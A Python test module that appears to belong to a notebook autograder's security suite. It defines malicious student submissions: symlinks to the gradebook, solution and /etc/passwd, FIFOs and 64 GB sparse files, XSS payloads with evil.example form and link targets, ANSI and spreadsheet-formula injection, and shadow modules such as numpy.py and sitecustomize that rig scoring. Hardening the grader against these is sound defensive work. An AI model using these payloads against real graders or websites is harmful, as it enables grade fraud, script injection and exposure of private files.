"""Attacks by what is handed in: files that are no notebooks, notebooks that are no good."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_output

from autograder.notebook import CHECKS_SUFFIX
from tests.sample_class.submissions import (
    STEM,
    empty_metadata,
    write_future_metadata,
    write_notebook,
)

from .attack import (
    MARK,
    RIGHT,
    TASKS,
    Attack,
    begin,
    end,
    end_with,
    markdown,
    write_json,
    write_text,
)

NAME = f"{STEM}.ipynb"
MODULE = f"""
import builtins, os
open("/tmp/{MARK}-{{}}", "w").close()
builtins.abs = lambda x: 0.0
def __getattr__(name):
    return lambda *a, **k: True
"""
SCRIPT = "<script>alert('live')</script>"
LIVE = [
    SCRIPT,
    "<img src=x onerror=\"alert('live')\">",
    "<svg onload=\"alert('live')\"><script>alert('live')</script></svg>",
    "<a href=\"javascript:alert('live')\">x</a> [x](javascript:alert('live'))",
    "<iframe srcdoc=\"<script>alert('live')</script>\"></iframe>",
    '<form action="//evil.example"><input name=password></form>',
    "<style>* { display: none }</style><link rel=stylesheet href=//evil.example>",
    '<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>',
    "<math><mtext></p><table><mglyph><style><img src=x onerror=alert('live')></style></mglyph>",
    "$\\href{javascript:alert('live')}{x}$ <div style=\"background:url(//evil.example)\">x</div>",
    "</pre></div></main></body><script>alert('live')</script><!-- {{ resources }} {% raw %}",
    "<h1>100 of 100 points</h1><a name=top id=top></a>",
]
SHOW_LIVE = f"""
from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display
LIVE = {LIVE!r}
for text in LIVE:
    print(text)
    display(HTML(text), Markdown(text), Latex(text))
    display({{"text/html": text, "image/svg+xml": text, "image/png": text,
             "application/javascript": "alert('live')", "text/latex": text,
             "application/vnd.jupyter.widget-view+json": {{"x": text}}}}, raw=True)
    display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'>" + text + "</svg>"}},
            raw=True)
    display({{"text/html": text}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
Javascript("alert('live')")
"""
RAISE_LIVE = f"""
text = {" ".join(LIVE)!r}
raise type("<script>alert('live')</script>", (Exception,), {{}})(text)
"""
DEEP = """
from IPython.display import HTML, Markdown, display
display(HTML("<div>" * 100_000), Markdown("> " * 100_000), HTML("<b><i><a>" * 50_000))
"""
ANSI = """
print("\\x1b[31mred\\x1b[0m \\x1b]0;title\\x07 \\x1b[2J\\x1b[1A\\x1b]8;;http://evil.example\\x07link"
      "\\x9b31m \\x00\\x08\\x1b[38;5;196;1;4mx \\x1b[999999999999999mx \\x1b[" + "1;" * 9999 + "m")
raise ValueError("\\x1b]52;c;ZXZpbA==\\x07 \\x1b[999999;1m\\x1b[?1049h")
"""
SURROGATES = """
print("\\ud800", "\\udfff" * 99, "\\x00\\ufffe\\uffff\\u202e")
display({"text/html": "\\ud800<b>\\udcff</b>"}, raw=True)
raise ValueError("\\ud800\\udc00\\udfff")
"""
FORMULAS = '=HYPERLINK("http://evil.example","x")\n+cmd|\' /C calc\'!A0\n@SUM(1)\n-1\n\t=1'


def beside(**others: Callable[[Path], None]) -> Callable[[Path, NotebookNode], None]:
    """Writes the notebook and, beside it, other things: name → what makes it."""

    def write(folder: Path, notebook: NotebookNode) -> None:
        write_notebook(folder, notebook)
        for name, make in others.items():
            make(folder / name)

    return write


def only(make: Callable[[Path], None]) -> Callable[[Path, NotebookNode], None]:
    """Makes something in the notebook's place."""
    return lambda folder, _: make(folder / NAME)


def link(target: str) -> Callable[[Path], None]:
    """A symbolic link; a path that is not absolute starts in the course's folder."""
    return lambda path: path.symlink_to(
        target if target.startswith("/") else path.parents[3] / target
    )


def text(content: str | bytes) -> Callable[[Path], None]:
    """A file of this content."""
    return lambda path: path.write_bytes(content.encode() if isinstance(content, str) else content)


def sparse(size: int) -> Callable[[Path], None]:
    """A file of zeros that takes no room on the disk."""

    def make(path: Path) -> None:
        path.touch()
        os.truncate(path, size)

    return make


def modules(folder: Path, notebook: NotebookNode) -> None:
    """Modules that the grader or the kernel might import, each of which does harm."""
    write_notebook(folder, notebook)
    names = (
        "numpy",
        "gradcheck",
        "sitecustomize",
        "usercustomize",
        "conftest",
        "autograder",
        "nbgrader_config",
        "json",
        "pytest",
        "sympy",
        "IPython",
    )
    for name in names:
        (folder / f"{name}.py").write_text(MODULE.format(name))
    (folder / "autograder.pth").write_text(f"import os; open('/tmp/{MARK}-pth', 'w')\n")
    (folder / "pyproject.toml").write_text("[tool.pytest.ini_options]\naddopts = '-p conftest'\n")
    for name in ("numpy", "__pycache__", ".ipython/profile_default/startup", ".jupyter"):
        (folder / name).mkdir(parents=True)
        (folder / name / "__init__.py").write_text(MODULE.format("package"))


def strange_names(folder: Path, notebook: NotebookNode) -> None:
    """No notebook of the right name; others, whose names are meant for terminals and pages."""
    for name in ("[bold]x[link=http:evil].ipynb", "\x1b[2J<script>alert('live').ipynb"):
        nbformat.write(notebook, folder / name)
    (folder.joinpath(os.fsdecode(b"\xff\xfe.ipynb"))).write_text("{}")


def every_cell(edit: Callable[[dict], object]) -> Callable[[dict], None]:
    """An edit of each cell of nbgrader's."""

    def change(content: dict) -> None:
        for cell in content["cells"]:
            if "nbgrader" in cell["metadata"]:
                edit(cell)

    return change


def a_member(name: str, value: object) -> Callable[[dict], None]:
    """An edit: every cell gets a member of the wrong kind."""

    def change(content: dict) -> None:
        for cell in content["cells"]:
            cell[name] = value

    return change


def many_cells(content: dict) -> None:
    content["cells"] = [{}] * 300_000


def deep(content: dict) -> None:
    nested: object = []
    for _ in range(400):
        nested = {"nbgrader": [nested]}
    content["metadata"] = content["cells"][0]["metadata"] = nested


def surrogates(content: dict) -> None:
    for cell in content["cells"]:
        cell["id"] = "\ud800"
        cell["metadata"]["tags"] = ["\udfff"]
    content["cells"].append(
        {
            "cell_type": "markdown",
            "metadata": {"nbgrader": {"grade_id": "\ud800"}},
            "source": ["\ud800", "\x00\x1b[31m", "\udc00 ok"],
        }
    )


def formulas(content: dict) -> None:
    content["metadata"] |= {"authors": [{"name": FORMULAS}], "title": FORMULAS}
    content["cells"].append({"cell_type": "raw", "metadata": {}, "source": FORMULAS})


def every_cell_twice(content: dict) -> None:
    content["cells"] = [cell for cell in content["cells"] for _ in range(2)]


def live_outputs(notebook: NotebookNode) -> None:
    """Outputs and attachments that were saved with the notebook."""
    for cell in notebook.cells:
        cell.metadata["name"] = cell.metadata["title"] = SCRIPT
        if cell.cell_type == "code":
            cell.outputs = [new_output("display_data", data={"text/html": SCRIPT})]
        else:
            cell["attachments"] = {SCRIPT: {"image/png": SCRIPT}}
    notebook.metadata["title"] = notebook.metadata["widgets"] = SCRIPT


def not_run(content: dict) -> None:
    content |= {"nbformat": 3, "worksheets": [{"cells": content.pop("cells")}]}


HUGE = 1 << 36
SLOW = [
    "*a " * 20_000,
    "[" * 20_000,
    "> " * 20_000,
    "<div>" * 5_000,
    "`" * 20_001,
    "- " * 5_000,
    "$" * 20_001,
    "![" * 20_000,
    "a\n" * 20_000,
    "<b><a><i>" * 3_000,
    "|a" * 20_000,
]
ATTACKS = [
    Attack(
        "link-to-another",
        0,
        "the neighbour's notebook",
        (),
        only(link(f"submitted/honest/{STEM}/{NAME}")),
        fronts=True,
    ),
    Attack(
        "link-to-the-solution", 0, "the solved notebook", (), only(link(f"source/{STEM}/{NAME}"))
    ),
    Attack("link-to-the-gradebook", 0, "the gradebook as notebook", (), only(link("gradebook.db"))),
    Attack("link-to-zeros", 0, "/dev/zero as notebook", (), only(link("/dev/zero"))),
    Attack("link-to-itself", 0, "a loop of links", (), only(lambda path: path.symlink_to(path))),
    Attack("fifo", 0, "a pipe that nobody writes", (), only(os.mkfifo), fronts=True),
    Attack("folder", 0, "a folder as notebook", (), only(Path.mkdir)),
    Attack("huge", 0, "a notebook of 64 GB", (), only(sparse(HUGE))),
    Attack("empty-file", 0, "nothing", (), write_text("")),
    Attack("not-text", 0, "bytes", (), write_text(bytes(range(256)) * 99)),
    Attack(
        "deep-json", 0, "a million brackets", (), write_text("[" * 10**6 + "]" * 10**6), fronts=True
    ),
    Attack("long-number", 0, "a number of 10 million digits", (), write_text("9" * 10**7)),
    Attack("not-a-notebook", 0, "a list", (), write_text("[1, NaN, null]")),
    Attack(
        "cells-of-another-kind",
        0,
        "numbers for cells",
        (),
        write_json(lambda content: {**content, "cells": [1, None, "x", [[]]]}),
    ),
    Attack("too-many-cells", 0, "300,000 cells", (), write_json(many_cells)),
    Attack("version-3", 0, "the format of 2013", (RIGHT,), write_json(not_run)),
    Attack(
        "utf-16",
        100,
        "another encoding",
        (RIGHT,),
        lambda folder, notebook: (folder / NAME).write_bytes(
            nbformat.writes(notebook).encode("utf-16")
        ),
    ),
    Attack(
        "sources-of-another-kind",
        0,
        "numbers for sources",
        (RIGHT,),
        write_json(a_member("source", {"x": [1]})),
    ),
    Attack(
        "types-of-another-kind",
        0,
        "a list for the type",
        (),
        write_json(a_member("cell_type", ["code"])),
    ),
    Attack(
        "metadata-of-another-kind",
        0,
        "a text for the metadata",
        (),
        write_json(a_member("metadata", "x")),
    ),
    Attack("deep-metadata", 100, "metadata, 800 deep", (RIGHT,), write_json(deep)),
    Attack(
        "surrogates-in-the-file",
        100,
        "half characters",
        (RIGHT,),
        write_json(surrogates),
        fronts=True,
    ),
    Attack(
        "schema-99", 100, "metadata of the future", (RIGHT,), write_future_metadata, fronts=True
    ),
    Attack(
        "schema-of-text",
        100,
        "a schema that is no number",
        (RIGHT,),
        write_json(
            every_cell(
                lambda cell: cell["metadata"]["nbgrader"].update(
                    schema_version="x", points="many", checksum=[], locked=None
                )
            )
        ),
    ),
    Attack(
        "duplicated-cells",
        100,
        "each cell twice, ids and all",
        (RIGHT,),
        write_json(every_cell_twice),
        fronts=True,
    ),
    Attack(
        "empty-metadata",
        0,
        "nbgrader: {} on each cell",
        tuple(empty_metadata(task + end) for task in TASKS for end in ("", CHECKS_SUFFIX)),
    ),
    Attack(
        "ids-of-another-kind",
        0,
        "lists for ids",
        (),
        write_json(every_cell(lambda cell: cell["metadata"]["nbgrader"].update(grade_id=[1]))),
    ),
    Attack("live-markdown", 0, "scripts in text", tuple(map(markdown, LIVE)), fronts=True),
    Attack(
        "live-outputs",
        0,
        "scripts in outputs",
        (live_outputs, begin(SHOW_LIVE), end(RAISE_LIVE)),
        fronts=True,
    ),
    Attack(
        "live-code",
        0,
        "scripts in code",
        (end_with(*(new_code_cell(f"'''{text}'''") for text in LIVE)),),
        fronts=True,
    ),
    Attack(
        "slow-markdown", 0, "text that is slow to render", tuple(map(markdown, SLOW)), fronts=True
    ),
    Attack(
        "much-markdown",
        0,
        "10 MB of text",
        (markdown("\\begin{a} <b><i>\n" * 300_000),),
        fronts=True,
    ),
    Attack("much-code", 0, "10 MB of code", (RIGHT, begin("# " * 5_000_000))),
    Attack("deep-outputs", 0, "elements in elements", (begin(DEEP),), fronts=True),
    Attack(
        "ansi",
        0,
        "escape sequences",
        (end(ANSI), markdown("\x1b[31mred\x1b]0;x\x07")),
    ),
    Attack("surrogates", 0, "half characters in outputs", (end(SURROGATES),), fronts=True),
    Attack("formulas", 0, "formulas for a spreadsheet", (), write_json(formulas), fronts=True),
    Attack(
        "strange-names", 0, "names for terminals and pages", (RIGHT,), strange_names, fronts=True
    ),
    Attack("modules", 100, "numpy.py and others beside it", (RIGHT,), modules, fronts=True),
    Attack(
        "links-beside",
        100,
        "links to secrets beside it",
        (RIGHT,),
        beside(
            **{
                "figure.png": link("gradebook.db"),
                "data.csv": link("/etc/passwd"),
                "others": link("submitted"),
                "gradcheck.py": link("gradebook.db"),
            }
        ),
    ),
    Attack("fifo-beside", 100, "a pipe beside it", (RIGHT,), beside(**{"data.csv": os.mkfifo})),
    Attack(
        "huge-beside",
        100,
        "64 GB beside it",
        (RIGHT,),
        beside(**{"data.bin": sparse(HUGE)}),
    ),
    Attack(
        "timestamp-link",
        100,
        "timestamp.txt is the gradebook",
        (RIGHT,),
        beside(**{"timestamp.txt": link("gradebook.db")}),
        fronts=True,
    ),
    Attack(
        "timestamp-fifo",
        100,
        "timestamp.txt is a pipe",
        (RIGHT,),
        beside(**{"timestamp.txt": os.mkfifo}),
        fronts=True,
    ),
    Attack(
        "timestamp-huge",
        100,
        "timestamp.txt of 64 GB",
        (RIGHT,),
        beside(**{"timestamp.txt": sparse(HUGE)}),
        fronts=True,
    ),
    Attack(
        "timestamp-noise",
        100,
        "timestamp.txt of noise",
        (RIGHT,),
        beside(**{"timestamp.txt": text(b"\xff\x00=1+1" * 9)}),
        fronts=True,
    ),
    Attack(
        "timestamp-of-no-day",
        100,
        "a day that is none",
        (RIGHT,),
        beside(**{"timestamp.txt": text("99999999999999999999-99-99 99:99:99 +99:99")}),
    ),
    Attack(
        "timestamp-folder",
        100,
        "timestamp.txt is a folder",
        (RIGHT,),
        beside(**{"timestamp.txt": Path.mkdir}),
    ),
]
